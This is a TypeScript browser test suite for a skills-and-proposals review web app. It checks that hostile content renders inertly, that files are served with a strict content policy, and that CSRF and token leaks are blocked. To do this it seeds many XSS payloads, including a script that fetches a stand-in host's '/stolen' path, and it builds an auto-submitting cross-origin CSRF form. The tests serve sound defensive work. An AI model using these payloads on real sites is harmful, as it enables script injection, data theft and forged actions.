import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, it, onTestFinished } from 'vitest';
import type { Tree } from '../helpers/temp-folder.ts';
import { newContext, type OpenReview, openReview, useBrowser } from './open-review.ts';

useBrowser();

const NAME = '<img src=x onerror=alert(1)>';
const BODY = `# <script>alert('heading')</script>

<script>alert('script'); fetch('http://203.0.113.7/stolen')</script>
<img src="http://203.0.113.7/pixel.png" onerror="alert('image')">
![remote](http://203.0.113.7/image.png)
![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
[run](javascript:alert('link')) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>
[odd](java&#10;script:alert(1)) [VB](vbscript:x) [out](https://203.0.113.7/out)
<svg onload="alert('svg')"><animate onbegin="alert('animate')" attributeName="x" dur="1s"/><foreignObject><iframe src="//203.0.113.7"></iframe></foreignObject></svg>
<iframe srcdoc="<script>parent.alert('frame')</script>"></iframe><object data="http://203.0.113.7/o"></object><embed src="http://203.0.113.7/e">
<base href="http://203.0.113.7/"><meta http-equiv="refresh" content="0;url=http://203.0.113.7/"><link rel="stylesheet" href="http://203.0.113.7/s.css">
<form action="http://203.0.113.7/f"><input name="csrf"><button>Approve</button></form>
<details open ontoggle="alert('toggle')"><style>@import 'http://203.0.113.7/i.css'; body { display: none }</style></details>
<a href="/skills/x" id="main" name="csrf" onclick="alert('click')" style="position:fixed;inset:0">cover</a>
</main></body></html><!-- \u202Etxet neddih\u202C \u200B\u{E0041} -->
`;

function skillFile(fields: string, body: string): string {
  return `---\n${fields}\n---\n\n${body}`;
}

const TREE: Tree = {
  'skills/evil/SKILL.md': skillFile(
    `name: ${JSON.stringify(NAME)}\ndescription: ${JSON.stringify(`${NAME} \u202E "><script>alert(2)</script>`)}\ntags: ['"><svg onload=alert(3)>']`,
    BODY,
  ),
  'skills/evil/<svg onload=alert(4)>.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)"><script>alert(6)</script></svg>',
  'skills/evil/page.html': '<script>alert(7)</script>',
  "skills/<b onclick='alert(8)'>bold/SKILL.md": skillFile('name: bold\ndescription: Bold.', BODY),
  'skills/huge/SKILL.md': skillFile(
    'name: huge\ndescription: Huge.',
    `${BODY}\n${'<b>[x](javascript:1)</b> '.repeat(160_000)}`,
  ),
};

async function hostile(): Promise<OpenReview & { readonly proposals: readonly string[] }> {
  const review = await openReview(TREE);
  const propose = async (path: string, content: string, author: string): Promise<string> => {
    const words = { justification: `${NAME} </textarea></pre>\u202E${BODY}`, evidence: BODY, author };
    return (await review.registry.proposals.propose({ skillId: 'evil', path, content, ...words })).proposalId;
  };
  const changed = skillFile('name: evil\ndescription: Evil.', `${BODY}\n</textarea><script>alert(9)</script>`);
  const proposals = [
    await propose('SKILL.md', changed, 'agent:<img src=x onerror=alert(10)>'),
    await propose('notes/<script>.md', BODY, 'agent:x'),
  ];
  return { ...review, proposals };
}

it('shows a hostile skill on every page, and nothing of it runs, loads or leaves', async () => {
  const { page, at, proposals } = await hostile();
  const paths = [
    ...[
      '/',
      '/proposals',
      '/catalog',
      '/catalog?q=%3Cscript%3Ealert(11)%3C/script%3E',
      '/catalog?tag=%22%3E%3Csvg+onload%3Dalert(12)%3E',
    ],
    ...['/usage?agent=%3Cscript%3Ealert(13)%3C/script%3E', '/usage?skill=%22%3E%3Cimg+src=x+onerror=alert(1)%3E'],
    ...['/skills/evil', '/skills/evil/files', '/skills/evil/history', '/skills/evil/history/1', '/skills/huge'],
    `/skills/${encodeURIComponent("<b onclick='alert(8)'>bold")}`,
    ...proposals.flatMap((id) => [`/proposals/${id}`, `/proposals/${id}?view=split`, `/proposals/${id}/edit`]),
  ];
  for (const path of paths) {
    const response = await page.goto(at(path));
    expect(response?.status(), path).toBe(200);
    // Only our own script, and no element that an author could have written as one.
    expect(await page.locator('script').count(), path).toBe(1);
    const foreign = 'main :is(iframe, object, embed, base, meta, link, style, img, form[action^="http"])';
    expect(await page.locator(foreign).count(), path).toBe(0);
    const handlers = `[...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on'))).length`;
    expect(await page.evaluate(handlers), path).toBe(0);
    const targets = `[...document.querySelectorAll('[href],[src],[action]')].map((one) => one.href?.baseVal ?? one.href ?? one.src ?? one.action).filter((to) => !/^https?:/.test(to))`;
    expect(await page.evaluate(targets), path).toEqual([]);
    // A field gives back what it was given, and a note above it says what cannot be seen.
    const shown = `[...document.querySelectorAll('textarea, input')].forEach((one) => one.remove()), document.documentElement.outerHTML`;
    expect(await page.evaluate(shown), path).not.toMatch(/[\u202E\u200B]/);
  }
  await page.goto(at('/skills/evil'));
  for (const link of await page.locator('main a[href^="http"]').all()) {
    const rel = (await link.getAttribute('rel')) ?? '';
    const href = (await link.getAttribute('href')) ?? '';
    if (!href.startsWith(at('/'))) expect(rel).toMatch(/noreferrer/);
  }
});

it('hands out the files of a skill as text or not at all', async () => {
  const { page, at, context } = await hostile();
  await page.goto(at('/skills/evil/files'));
  const addresses = await page.evaluate<readonly string[]>(
    `[...document.querySelectorAll('main a')].map(({ href }) => href).filter((href) => href.includes('/skills/evil/'))`,
  );
  expect(addresses.length).toBeGreaterThan(2);
  for (const address of [...addresses, at('/skills/evil/text')]) {
    const response = await context.request.get(address);
    const { 'content-type': type = '', 'content-security-policy': policy = '' } = response.headers();
    expect(type).toMatch(/^text\/(html|plain)|^application\/octet-stream/);
    expect(policy).toContain("default-src 'none'");
    const opened = await context.newPage();
    await opened.goto(address).catch(() => undefined);
    await opened.close();
  }
});

it('refuses what another site, another host name, or nobody sends', async () => {
  const { at, open, process, registry, context } = await openReview();
  const own = new URL(process.url);
  const { csrf, version, blocks } = await fieldsOf(context, at(`/proposals/${open}`));
  // A page of another origin, whose visitor has the cookie and, by some leak, even the token of the form.
  const other = createServer((_, response) => {
    const fields = Object.entries({ csrf, version, blocks }).map(
      ([name, value]) => `<input name="${name}" value="${value}">`,
    );
    response.setHeader('Content-Type', 'text/html');
    response.end(`<form method="post" action="${at(`/proposals/${open}/approve`)}">${fields.join('')}</form>
<script>document.forms[0].submit()</script>`);
  });
  await new Promise<void>((resolve) => void other.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void other.close());
  const visitor = await newContext();
  onTestFinished(() => visitor.close());
  await visitor.addCookies(await context.cookies());
  for (const host of ['127.0.0.1', 'localhost']) {
    const page = await visitor.newPage();
    await page.goto(`http://${host}:${(other.address() as AddressInfo).port}/`);
    await page.waitForURL((url) => url.port === own.port);
    await page.getByText('Not let in').first().waitFor();
  }
  const stranger = await newContext();
  onTestFinished(() => stranger.close());
  for (const [address, headers] of [
    [at('/'), {}],
    [at(`/proposals/${open}`), {}],
    [at('/events'), {}],
    [at('/open/wrong'), {}],
    [process.url, { Host: 'evil.example' }],
  ] as const) {
    const response = await stranger.request.get(address, { headers, maxRedirects: 0 });
    expect([401, 403], address).toContain(response.status());
    expect(await response.text()).not.toContain('release-notes');
  }
  const form = { csrf, version, blocks };
  const posted = await context.request.post(at(`/proposals/${open}/approve`), {
    form: { ...form, csrf: 'guessed' },
    headers: { Origin: own.origin },
  });
  expect(posted.status()).toBe(403);
  expect(await registry.proposals.get(open)).toMatchObject({ state: 'open' });
});

it('keeps the token out of pages, of the Referer and of what scripts can read', async () => {
  const { page, at, process, context, open } = await openReview();
  const token = process.url.split('/').at(-1) ?? '';
  const sent: string[] = [];
  context.on('request', (request) => void sent.push(JSON.stringify(request.headers())));
  for (const path of ['/', '/catalog', '/usage', `/proposals/${open}`]) {
    await page.goto(process.url);
    await page.goto(at(path));
    expect(await page.content()).not.toContain(token);
  }
  expect(await page.evaluate('document.cookie')).toBe('');
  expect(sent.join('\n')).not.toContain(token);
  const [cookie] = await context.cookies();
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
  expect(cookie?.value).not.toContain(token);
  expect(process.output().split(token)).toHaveLength(2);
});

/** The hidden fields of the first form that approves. */
async function fieldsOf(
  context: OpenReview['context'],
  address: string,
): Promise<Record<'csrf' | 'version' | 'blocks', string>> {
  const page = await context.newPage();
  await page.goto(address);
  const hiddenField = (name: string): Promise<string> =>
    page.locator(`form[action$="/approve"] input[name="${name}"]`).inputValue();
  const fields = {
    csrf: await hiddenField('csrf'),
    version: await hiddenField('version'),
    blocks: await hiddenField('blocks'),
  };
  await page.close();
  return fields;
}
